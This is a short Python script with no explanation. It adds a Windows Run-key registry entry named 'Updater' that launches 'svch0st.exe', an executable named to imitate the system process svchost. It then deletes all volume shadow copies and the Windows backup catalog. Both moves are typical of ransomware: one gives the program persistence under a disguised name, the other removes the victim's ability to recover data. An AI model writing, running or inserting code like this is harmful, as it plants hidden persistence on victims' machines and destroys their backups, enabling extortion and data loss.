import winreg
EXE = r"C:\Users\Public\svch0st.exe"
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, EXE)
import os
os.system("vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet")
